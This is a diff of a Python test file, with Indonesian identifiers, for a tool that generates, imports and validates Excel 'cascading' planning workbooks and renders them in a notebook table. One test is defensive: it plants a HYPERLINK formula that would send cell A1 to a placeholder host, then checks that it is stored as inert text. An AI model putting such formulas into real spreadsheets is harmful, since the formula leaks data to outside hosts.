@@ -6,8 +6,6 @@ tujuan dan sasaran) dan dari aturan issue 13.
 
 from __future__ import annotations
 
-import hashlib
-import shutil
 from pathlib import Path
 
 import openpyxl
@@ -16,8 +14,7 @@ import pytest
 
 from analisis.chapters import cascading as bab
 from analisis.core import cascading as casc
-from analisis.core import data, paths
-from analisis.core.kesalahan import KesalahanData
+from analisis.core import data
 from analisis.input import cascading as masukan
 from analisis.input import impor
 
@@ -150,21 +147,6 @@ def test_rujukan_bidang_dan_kode():
 # buku kerja: templat, impor, tabel dokumen
 
 
-def _hash(folder: Path) -> str:
-    h = hashlib.sha256()
-    for f in sorted(folder.rglob("*")):
-        if f.is_file():
-            h.update(str(f.relative_to(folder)).encode() + f.read_bytes())
-    return h.hexdigest()
-
-
-@pytest.fixture
-def folder(tmp_path) -> Path:
-    d = tmp_path / "data"
-    shutil.copytree(paths.folder_data(), d)
-    return d
-
-
 def test_templat_terisi_dan_bervalidasi(folder, tmp_path):
     t = masukan.buat_templat(tmp_path / "c.xlsx", folder=folder)
     wb = openpyxl.load_workbook(t)
@@ -177,14 +159,9 @@ def test_templat_terisi_dan_bervalidasi(folder, tmp_path):
     assert masukan.adalah_templat(t)
 
 
-def test_buku_kerja_dikirim_ditolak_karena_belum_lengkap_dan_data_tetap(folder, tmp_path):
+def test_buku_kerja_dikirim_ditolak_karena_belum_lengkap_dan_data_tetap(folder, tmp_path, bantu):
     t = masukan.buat_templat(tmp_path / "c.xlsx", folder=folder)
-    sebelum = _hash(folder)
-    with pytest.raises(KesalahanData) as e:
-        impor.impor(t, folder=folder)
-    teks = str(e.value)
-    assert "lembar 'Cascading', baris" in teks and "kolom 'C (Induk (ID))'" in teks and "wajib diisi" in teks
-    assert _hash(folder) == sebelum
+    bantu.tolak(t, folder, "lembar 'Cascading', baris", "kolom 'C (Induk (ID))'", "wajib diisi")
 
 
 def _isi_kecil(t: Path) -> pd.DataFrame:
@@ -201,17 +178,17 @@ def _isi_kecil(t: Path) -> pd.DataFrame:
     return df
 
 
-def test_impor_bolak_balik_dan_tabel_4_6(folder, tmp_path):
+def test_impor_bolak_balik_dan_tabel_4_6(folder, tmp_path, bantu):
     t = masukan.buat_templat(tmp_path / "c.xlsx", folder=folder)
     df = _isi_kecil(t)
-    sebelum = _hash(folder)
+    sebelum = bantu.potret(folder)
     h = impor.impor(t, folder=folder, coba=True)
-    assert h.ada_perubahan and _hash(folder) == sebelum  # --coba tidak menulis
+    assert h.ada_perubahan and bantu.potret(folder) == sebelum  # --coba tidak menulis
     h = impor.impor(t, folder=folder)
     assert h.ditulis == [folder / "cascading.csv"]
-    sesudah = _hash(folder)
+    sesudah = bantu.potret(folder)
     h2 = impor.impor(t, folder=folder)  # impor kedua tidak mengubah apa pun
-    assert not h2.ada_perubahan and _hash(folder) == sesudah
+    assert not h2.ada_perubahan and bantu.potret(folder) == sesudah
     baru = data.muat("cascading", folder)
     assert list(baru["id"]) == list(df["id"])
     html = bab.tabel_cascading(baru, "Cascading").data
@@ -222,15 +199,117 @@ def test_impor_bolak_balik_dan_tabel_4_6(folder, tmp_path):
     assert "66,5" in html and "90 %" in html
 
 
-def test_buku_kerja_salah_ditolak_dengan_lembar_baris_kolom(folder, tmp_path):
+def test_buku_kerja_salah_ditolak_dengan_lembar_baris_kolom(folder, tmp_path, bantu):
     t = masukan.buat_templat(tmp_path / "c.xlsx", folder=folder)
     _isi_kecil(t)
     wb = openpyxl.load_workbook(t)
     ws = wb["Cascading"]
     ws.cell(masukan.BARIS_DATA + 4, 12, 150)  # P1 target 2026 = 150 %
     wb.save(t)
-    sebelum = _hash(folder)
-    with pytest.raises(KesalahanData) as e:
-        impor.impor(t, folder=folder)
-    assert "lembar 'Cascading', baris 8, kolom 'L (Target 2026)', nilai '150.0': target persen harus antara 0 dan 100" in str(e.value)
-    assert _hash(folder) == sebelum
+    bantu.tolak(t, folder, "lembar 'Cascading', baris 8, kolom 'L (Target 2026)', nilai '150.0': "
+                           "target persen harus antara 0 dan 100")
+
+
+# ----------------------------------------------------------------------------
+# dari sisi perencana: iku templat --cascading → isi (skrip / LibreOffice) → iku impor → buku 05
+
+
+AKAR = Path(__file__).resolve().parents[1]
+
+
+def _html_tabel_4_6(keluar: Path) -> str:
+    """HTML Tabel 4.6 (blok ``tabel-cascading``) dari buku 05 yang sudah dieksekusi."""
+    import nbformat
+
+    nb = nbformat.read(keluar, as_version=4)
+    (html,) = [o["data"]["text/html"] for c in nb.cells for o in c.get("outputs", [])
+               if 'class="tabel-cascading"' in o.get("data", {}).get("text/html", "")]
+    return html
+
+
+@pytest.mark.lambat
+@pytest.mark.parametrize("lewat_libreoffice", [False, True], ids=["openpyxl", "libreoffice"])
+def test_perencana_mengisi_cascading_sampai_tabel_4_6(folder, tmp_path, bantu, capsys, lewat_libreoffice):
+    """Issue 13: templat lewat CLI, cascading kecil diisi, (disimpan Calc), ``iku impor``, buku 05 mencetak semuanya."""
+    import papermill as pm
+
+    from analisis import cli
+
+    if lewat_libreoffice and bantu.SOFFICE is None:
+        pytest.skip("LibreOffice (soffice) tidak terpasang")
+    t = tmp_path / "cascading.xlsx"
+    assert cli.main(["templat", "--cascading", "--keluaran", str(t)]) == 0
+    assert f"Ditulis: {t}" in capsys.readouterr().out
+    df = _isi_kecil(t)
+    if lewat_libreoffice:
+        t = bantu.lewat_libreoffice(t, tmp_path)
+    assert cli.main(["impor", str(t), "--coba"]) == 0
+    assert "8 ditambah" in capsys.readouterr().out
+    assert cli.main(["impor", str(t)]) == 0
+    assert "Ditulis: data/cascading.csv" in capsys.readouterr().out
+    assert list(data.muat("cascading", folder)["id"]) == list(df["id"])
+    sesudah = bantu.potret(folder)
+    assert cli.main(["impor", str(t)]) == 0 and "Tidak ada perubahan" in capsys.readouterr().out
+    assert bantu.potret(folder) == sesudah
+
+    keluar = tmp_path / "05.ipynb"  # kernel mewarisi IKU_DATA salinan (fixture folder)
+    pm.execute_notebook(str(AKAR / "notebooks" / "05_cascading.ipynb"), str(keluar), parameters={"tahun": 2025},
+                        cwd=str(AKAR / "notebooks"), progress_bar=False)
+    html = _html_tabel_4_6(keluar)
+    for _, r in df.iterrows():
+        for k in ("nama", "indikator", "rumusan"):
+            assert r[k] in html, (r["id"], k)
+        for th in casc.TAHUN:
+            assert bab._angka_target(r[casc.kolom_target(th)], r["satuan"]) in html, (r["id"], th)
+    assert "66,5" in html and "90 %" in html and "Penyediaan Bahan Logistik Kantor" not in html  # diganti utuh
+    assert html.count("<thead>") == 3 and 'rowspan="' not in html  # satu anak per induk: tanpa rentang
+
+
+def test_cli_buku_kerja_cascading_ditolak_data_tetap(folder, tmp_path, bantu, capsys):
+    from analisis import cli
+
+    t = tmp_path / "c.xlsx"
+    assert cli.main(["templat", "--cascading", "--keluaran", str(t)]) == 0
+    _isi_kecil(t)
+    wb = openpyxl.load_workbook(t)
+    wb["Cascading"].cell(masukan.BARIS_DATA + 7, 3, "K9")  # SK1 berinduk simpul yang tidak ada
+    wb.save(t)
+    capsys.readouterr()
+    sebelum = bantu.potret(folder)
+    assert cli.main(["impor", str(t)]) == 2
+    err = capsys.readouterr().err
+    assert "lembar 'Cascading', baris 11, kolom 'C (Induk (ID))', nilai 'induk=K9': induk tidak ditemukan di kolom id" in err
+    assert "Traceback" not in err and bantu.potret(folder) == sebelum
+
+
+def test_templat_cascading_tidak_menimpa_dan_hanya_xlsx(folder, tmp_path, capsys):
+    from analisis import cli
+
+    t = tmp_path / "cascading.xlsx"
+    assert cli.main(["templat", "--cascading", "--keluaran", str(t)]) == 0
+    t.write_bytes(b"isian perencana yang belum diimpor")
+    capsys.readouterr()
+    assert cli.main(["templat", "--cascading", "--keluaran", str(t)]) == 2
+    assert "sudah ada (mungkin isian yang belum diimpor); tidak ditimpa" in capsys.readouterr().err
+    assert t.read_bytes() == b"isian perencana yang belum diimpor"
+    assert cli.main(["templat", "--cascading", "--keluaran", str(t), "--timpa"]) == 0
+    assert masukan.adalah_templat(t)
+    csv = folder / "cascading.csv"
+    sebelum = csv.read_bytes()
+    assert cli.main(["templat", "--cascading", "--keluaran", str(csv), "--timpa"]) == 2
+    assert "hanya ditulis ke berkas berakhiran .xlsx" in capsys.readouterr().err
+    assert csv.read_bytes() == sebelum
+    assert cli.main(["templat", "--cascading", "--keluaran", str(tmp_path)]) == 2
+    assert not list(tmp_path.glob(".*.tmp"))
+
+
+def test_templat_cascading_teks_berawalan_rumus_ditulis_sebagai_teks(folder, tmp_path):
+    rumus = '=HYPERLINK("http://contoh.invalid/?"&A1,"Data")'
+    df = data.muat("cascading", folder)
+    teks = (folder / "cascading.csv").read_text(encoding="utf-8")
+    (folder / "cascading.csv").write_text(teks.replace("ΣSD", '"' + rumus.replace('"', '""') + '"', 1), encoding="utf-8")
+    assert rumus in set(data.muat("cascading", folder)["rumusan"]) and len(df)
+    ws = openpyxl.load_workbook(masukan.buat_templat(tmp_path / "c.xlsx", folder=folder))["Cascading"]
+    sel = [c for baris in ws.iter_rows() for c in baris if c.value == rumus]
+    assert sel and all(c.data_type == "s" and c.quotePrefix for c in sel)
+    assert not [c for baris in ws.iter_rows() for c in baris if c.data_type == "f"]
